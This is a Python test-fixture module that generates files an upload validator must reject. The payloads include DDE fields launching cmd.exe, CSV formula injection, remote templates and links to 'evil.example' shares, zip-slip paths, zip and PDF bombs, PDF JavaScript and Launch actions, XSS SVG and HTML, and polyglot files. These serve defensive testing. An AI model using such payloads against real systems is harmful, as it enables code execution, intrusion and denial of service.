"""Files nobody should be able to hand in: (label, name, content). Each is wrong in one way."""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from tests import samples
from tests.samples import chunk, jpg, object_stream, office, pdf, png, relations, segment, types

Case = tuple[str, str, bytes]
WORD = "word/document.xml"
WORD_RELS = "word/_rels/document.xml.rels"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!DOCTYPE html><script>alert(1)</script>"


def every() -> list[Case]:
    return [
        *names(),
        *disguised(),
        *archives(),
        *documents(),
        *pdfs(),
        *pictures(),
        *texts(),
        *second_natures(),
    ]


def names() -> Iterator[Case]:
    """Endings that are not accepted, whatever is inside."""
    endings = "exe dll scr com bat cmd ps1 vbs js hta lnk msi jar svg svgz html htm xhtml xml xls doc ppt docm xlsm "
    endings += "pptm dotx xlsb odt ods rtf zip rar 7z gz tar iso eml msg mht swf php py sh gif webp tiff bmp"
    for ending in endings.split():
        yield f"ending {ending}", f"quote.{ending}", pdf()
    for name in ("quote", "quote.pdf.exe", "quote.pdf ", "quote.", ".pdf.", "quote.pdf\u202egnp", "pdf"):
        yield f"name {name!r}", name, pdf()


def disguised() -> Iterator[Case]:
    """One kind under the name of another."""
    bodies = {
        "html": HTML,
        "svg": SVG,
        "xml svg": b'<?xml version="1.0"?>' + SVG,
        "program": b"MZ\x90\0" + bytes(200),
        "elf": b"\x7fELF" + bytes(200),
        "ole": OLE,
        "gzip": gzip.compress(b"x"),
        "rar": b"Rar!\x1a\x07\x00" + bytes(90),
        "gif": b"GIF89a" + bytes(90),
    }
    for label, body in bodies.items():
        for ending in ("pdf", "png", "jpg", "docx", "xlsx", "pptx"):
            yield f"{label} as {ending}", f"quote.{ending}", body
    for label in ("html", "svg", "xml svg"):
        for ending in ("txt", "csv"):
            yield f"{label} as {ending}", f"quote.{ending}", b"\xef\xbb\xbf \r\n" + bodies[label]
    whole = {"pdf": pdf(), "png": png(), "jpg": jpg(), "docx": office("docx"), "xlsx": office("xlsx")}
    for real, body in whole.items():
        for ending in ("pdf", "png", "jpg", "docx", "xlsx", "pptx", "txt"):
            if ending != real:
                yield f"{real} as {ending}", f"quote.{ending}", body
    for ending in ("pdf", "png", "jpg", "docx", "txt", "csv"):
        yield f"empty {ending}", f"quote.{ending}", b""


def _zip(*members: tuple[zipfile.ZipInfo | str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", method) as archive:
        archive.writestr("[Content_Types].xml", types("docx"))
        archive.writestr(WORD, "<document/>")
        for name, body in members:
            archive.writestr(name, body)
    return held.getvalue()


def _patched(content: bytes, signature: bytes, at: int, value: bytes, which: int = -1) -> bytes:
    """Change bytes of a header: the last one (or first, which=0) that carries the signature."""
    place = content.find(signature) if which == 0 else content.rfind(signature)
    return content[: place + at] + value + content[place + at + len(value) :]


def _overlapping() -> bytes:
    """Many entries that share one packed body."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(1 << 20)
    body = packed.compress(zeros) + packed.flush()
    local = struct.pack(
        "<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 33, zlib.crc32(zeros), len(body), len(zeros), 1, 0
    )
    out, central = local + b"a" + body, b""
    for _n in range(300):
        central += struct.pack(
            "<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 33, zlib.crc32(zeros), len(body), len(zeros),
            1, 0, 0, 0, 0, 0, 0,
        ) + b"a"  # fmt: skip
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 300, 300, len(central), len(out), 0)
    return out + central + end


def archives() -> Iterator[Case]:
    """Zips that lie, leave their folder, or explode."""
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    plain = office("docx")
    bad = {
        "ten thousand members": _zip(*((f"word/{n}.xml", b"") for n in range(10_000))),
        "bomb of zeros": _zip(("word/zeros.xml", bytes(60 << 20))),
        "bomb in many": _zip(*((f"word/{n}.xml", bytes(4 << 20)) for n in range(60))),
        "overlapping": _overlapping(),
        "symbolic link": _zip((link, b"/etc/passwd")),
        "up": _zip(("../evil.xml", b"x")),
        "up inside": _zip(("word/../../evil.xml", b"x")),
        "absolute": _zip(("/etc/evil.xml", b"x")),
        "drive": _zip(("C:/evil.xml", b"x")),
        "backslash": _patched(_zip(("word/aXevil.xml", b"x")), b"word/aX", 6, b"\\"),
        "control in a name": _zip(("word/a\x07.xml", b"x")),
        "same name in capitals": _zip(("WORD/document.xml", b"x")),
        "nested zip": _zip(("word/inner.zip", _zip())),
        "nested zip under another name": _zip(("word/media/image1.png", _zip())),
        "nested rar": _zip(("word/media/a.bin", b"Rar!\x1a\x07\x00" + bytes(50))),
        "nested gzip": _zip(("word/media/a.bin", gzip.compress(b"x"))),
        "program inside": _zip(("word/media/a.bin", b"MZ" + bytes(50))),
        "program by name": _zip(("word/media/a.exe", b"x")),
        "script by name": _zip(("word/a.js", b"x")),
        "encrypted member": _patched(plain, b"PK\1\2", 8, b"\x01\x00"),
        "unknown packing": _patched(_patched(plain, b"PK\1\2", 10, b"\x0c\0"), b"PK\3\4", 8, b"\x0c\0", 0),
        "smaller than told": _patched(plain, b"PK\1\2", 24, b"\xff\xff\0\0"),
        "another checksum": _patched(plain, b"PK\1\2", 16, b"\1\2\3\4"),
        "another local name": plain.replace(b"docProps/core.xml", b"docProps/CORE.xml", 1),
        "cut": plain[: len(plain) // 2],
        "without directory": plain[: plain.find(b"PK\1\2")],
        "comment": plain[:-2] + b"\x05\x00hello",
        "bytes behind": plain + b"MZ",
        "bytes before": b"MZ\0\0" + plain,
        "only a start": b"PK\3\4 not a zip",
        "no content types": office("docx", **{"[Content_Types].xml": None}),
        "types of another kind": office("docx", **{"[Content_Types].xml": types("xlsx")}),
        "main part missing": office("docx", **{WORD: None}),
        "types not xml": office("docx", **{"[Content_Types].xml": "<Types"}),
        "a plain zip": _plain_zip(),
        "tar in it": _zip(("word/inner.tgz", _tar())),
    }
    for label, content in bad.items():
        yield f"zip: {label}", "quote.docx", content
    deep = office(
        "xlsx", **{"xl/embeddings/a.xlsx": office("xlsx", **{"xl/embeddings/b.xlsx": office("xlsx")})}
    )
    yield "zip: a document in a document in a document", "quote.xlsx", deep


def _plain_zip() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("hello.txt", "x")
    return held.getvalue()


def _tar() -> bytes:
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w:gz"):
        pass
    return held.getvalue()


def documents() -> Iterator[Case]:
    """Office documents that run or fetch something."""
    laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'
    field = "<document><w:r><w:instrText>{}</w:instrText></w:r></document>"
    split = "<document><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\x</w:instrText></document>"
    escaped = field.format("&#68;DE c:\\\\x")
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    more = {
        "vba project": {"word/vbaProject.bin": "x"},
        "vba project elsewhere": {"stuff/VbaProject.BIN": "x"},
        "vba data": {"word/vbaData.xml": "<x/>"},
        "active x": {"word/activeX/activeX1.xml": "<x/>"},
        "old macro sheet": {"xl/macrosheets/sheet1.xml": "<x/>"},
        "ribbon": {"customUI/customUI.xml": "<x/>"},
        "packaged object": {"word/embeddings/oleObject1.bin": OLE},
        "packaged object elsewhere": {"word/media/a.bin": OLE},
        "macro content type": {"[Content_Types].xml": types("docx", macro)},
        "doctype in types": {"[Content_Types].xml": laughs + types("docx").partition("?>")[2]},
        "doctype in relations": {"_rels/.rels": laughs + relations().partition("?>")[2]},
        "doctype in the text": {WORD: laughs + "<document>&b;</document>"},
        "utf-16 text": {WORD: field.format("DDE x").encode("utf-16")},
        "dde field": {WORD: field.format('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')},
        "dde field in pieces": {WORD: split},
        "dde field escaped": {WORD: escaped},
        "dde simple field": {WORD: '<document><w:fldSimple w:instr="DDE cmd x"></w:fldSimple></document>'},
        "dde other prefix": {WORD: "<d><q:instrText>DDE cmd</q:instrText></d>"},
        "dde in the header": {"word/header1.xml": field.format("DDE cmd")},
        "fetched picture": {WORD: field.format('INCLUDEPICTURE "http://evil.example/a.png"')},
        "fetched text": {WORD: field.format("INCLUDETEXT \\\\\\\\evil\\\\share\\\\a.docx")},
    }
    for label, parts in more.items():
        yield f"docx: {label}", "quote.docx", office("docx", **parts)
    targets = {
        "attachedTemplate": [
            "http://evil.example/t.dotm",
            "\\\\evil\\t.dotm",
            "file://evil/t.dotm",
            "//evil/t.dotm",
        ],
        "image": [
            "http://evil.example/a.png",
            "file:///etc/passwd",
            "\\\\evil\\a.png",
            "//evil/a.png",
            "a.png",
        ],
        "hyperlink": [
            "file:///c:/windows/calc.exe",
            "\\\\evil\\share",
            "javascript:alert(1)",
            "ms-msdt:/id",
            "//evil/a",
        ],
        "oleObject": ["http://evil.example/a.html", "mhtml:http://evil.example/a!x", "a.xlsx"],
        "frame": ["http://evil.example/", "file%3A//evil/a"],
        "subDocument": ["http://evil.example/a.docx"],
    }
    for kind, addresses in targets.items():
        for target in addresses:
            rels = {WORD_RELS: relations((kind, target, "External"))}
            yield f"docx: {kind} {target}", "quote.docx", office("docx", **rels)
    book = "xl/externalLinks/externalLink1.xml"
    for element in ("ddeLink", "oleLink"):
        body = f'<externalLink xmlns="a"><{element} ddeService="cmd"/></externalLink>'
        yield f"xlsx: {element}", "quote.xlsx", office("xlsx", **{book: body})
    rels = relations(("externalLinkPath", "\\\\evil\\share\\book.xlsx", "External"))
    yield "xlsx: book on a share", "quote.xlsx", office("xlsx", **{f"{book}.rels": rels})
    for ending in ("docx", "xlsx", "pptx"):
        yield f"{ending}: password", f"quote.{ending}", OLE


def pdfs() -> Iterator[Case]:
    """PDFs with scripts, programs, files or a password, in the open and hidden."""
    names = (
        "JavaScript",
        "Launch",
        "EmbeddedFile",
        "EmbeddedFiles",
        "RichMedia",
        "ImportData",
        "SubmitForm",
        "GoToE",
    )
    for name in names:
        action = b"<< /S /%s /X (x) >>" % name.encode()
        hexed = b"<< /S /#%02X%s /X (x) >>" % (ord(name[0]), name[1:].encode())
        yield f"pdf: {name}", "quote.pdf", pdf(action)
        yield f"pdf: {name} with an escape", "quote.pdf", pdf(hexed)
        yield f"pdf: {name} in an object stream", "quote.pdf", pdf(object_stream(action))
        yield f"pdf: {name} escaped in an object stream", "quote.pdf", pdf(object_stream(hexed))
        inside = b"<< /Length 60 >>\nstream\n9 0 obj %s endobj\nendstream" % action
        yield f"pdf: {name} inside a stream", "quote.pdf", pdf(inside)
    script = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    yield "pdf: script when opened", "quote.pdf", pdf(b"<< /OpenAction << /JS (x) >> >>")
    yield "pdf: form language", "quote.pdf", pdf(b"<< /AcroForm << /XFA [1 0 R] >> >>")
    yield "pdf: stream of hidden type", "quote.pdf", pdf(object_stream(script, name=b"9 0 R"))
    yield "pdf: stream of escaped type", "quote.pdf", pdf(object_stream(script, name=b"/Obj#53tm"))
    yield "pdf: stream packed twice", "quote.pdf", pdf(object_stream(script, entries=b"/F2 /ASCIIHexDecode"))
    yield (
        "pdf: stream with a predictor",
        "quote.pdf",
        pdf(object_stream(script, entries=b"/DecodeParms << >>")),
    )
    yield (
        "pdf: damaged object stream",
        "quote.pdf",
        pdf(object_stream(script).replace(b"stream\n\x78", b"stream\n\x00")),
    )
    yield "pdf: password", "quote.pdf", pdf(trailer=b"/Encrypt 5 0 R")
    yield "pdf: password escaped", "quote.pdf", pdf(trailer=b"/#45ncrypt 5 0 R")
    bomb = object_stream(b"(" + bytes(40 << 20) + b")")
    yield "pdf: object stream bomb", "quote.pdf", pdf(bomb)
    yield "pdf: cut", "quote.pdf", pdf()[:-40]
    yield "pdf: late start", "quote.pdf", b"MZ\0\0" + pdf()
    yield "pdf: no version", "quote.pdf", b"%PDF-" + pdf()[8:]
    yield "pdf: only a start", "quote.pdf", b"%PDF-1.7 ..."
    yield "pdf: endless stream", "quote.pdf", pdf(b"<< >>\nstream\nx") + pdf()[-20:]


def pictures() -> Iterator[Case]:
    """Pictures too large, damaged, or with something behind them."""
    wide = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    start = b"\x89PNG\r\n\x1a\n"
    odd = struct.pack(">IIBBBBB", 2, 2, 3, 2, 0, 0, 0)
    none = struct.pack(">IIBBBBB", 0, 2, 8, 2, 0, 0, 0)
    tail = chunk(b"IDAT", zlib.compress(bytes(14))) + chunk(b"IEND", b"")
    whole = png()
    bad = {
        "pixels": start + chunk(b"IHDR", wide) + tail,
        "depth": start + chunk(b"IHDR", odd) + tail,
        "no width": start + chunk(b"IHDR", none) + tail,
        "no header": start + tail,
        "no pixels": start
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0))
        + chunk(b"IEND", b""),
        "cut": whole[:-5],
        "no end": whole[:-12],
        "checksum": whole[:-20] + b"\0\0\0\0" + whole[-16:],
        "more pixels than told": png(raw=bytes(1 << 20)),
        "not packed": start + chunk(b"IHDR", whole[16:29]) + chunk(b"IDAT", b"xx") + chunk(b"IEND", b""),
        "bytes behind": whole + b"x",
        "zip behind": whole + _plain_zip(),
        "page behind": whole + HTML,
        "only a start": start + b"0" * 20,
    }
    for label, content in bad.items():
        yield f"png: {label}", "shot.png", content
    photo = jpg()
    worse = {
        "pixels": jpg(60_000, 60_000),
        "no width": jpg(0, 8),
        "cut": photo[:-2],
        "no scan": b"\xff\xd8" + segment(0xC0, b"\x08\0\x08\0\x08\1\1\x11\0") + b"\xff\xd9",
        "no frame": jpg(frame=0xC4),
        "segment beyond the end": b"\xff\xd8\xff\xe0\xff\xff" + bytes(20),
        "short segment": b"\xff\xd8\xff\xe0\x00\x01" + bytes(20),
        "zip behind": photo + _plain_zip(),
        "page behind": photo + HTML,
        "program behind": photo + b"MZ" + bytes(60),
        "pdf behind": photo + pdf(),
        "second picture cut": photo + photo[:-2],
        "zip in a comment": jpg(more=segment(0xFE, _plain_zip())),
        "only a start": b"\xff\xd8\xff\xe0 ...",
    }
    for label, content in worse.items():
        yield f"jpg: {label}", "photo.jpg", content


def texts() -> Iterator[Case]:
    """Text that is not text, tables that calculate."""
    for label, body in {
        "utf-16": "text".encode("utf-16"),
        "gbk": "价格表".encode("gbk"),
        "latin": "prix élevé".encode("latin-1"),
        "zero bytes": b"a\0b",
        "escape": b"a\x1b[31mb",
        "binary": bytes(range(256)),
    }.items():
        yield f"txt: {label}", "notes.txt", body
        yield f"csv: {label}", "notes.csv", body
    cells = (
        "=1+1", "=cmd|' /C calc'!A0", '"=HYPERLINK(""http://evil.example"",""x"")"', " =1+1", "'=1+1", "＝1+1",
        "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(A1)", "+SUM(A1)", "\t=1+1",
        '"\n=1+1"',
    )  # fmt: skip
    for cell in cells:
        yield f"csv: {cell!r}", "notes.csv", f"name,price\nA,{cell}\n".encode()
        yield f"csv with semicolons: {cell!r}", "notes.csv", f"name;price\nA;{cell}\n".encode()


def second_natures() -> Iterator[Case]:
    """Whole files that another program reads as something else."""
    archive = _plain_zip()
    for ending, body in {"pdf": pdf(), "txt": b"words\n", "csv": b"a,b\n"}.items():
        yield f"{ending} and zip", f"quote.{ending}", body + archive
    yield "txt and pdf", "quote.txt", b"hello\n" + pdf()[:40].replace(b"\xe2\xe3\xcf\xd3", b"") + b"\n"
    yield "docx and pdf", "quote.docx", pdf() + samples.office("docx")
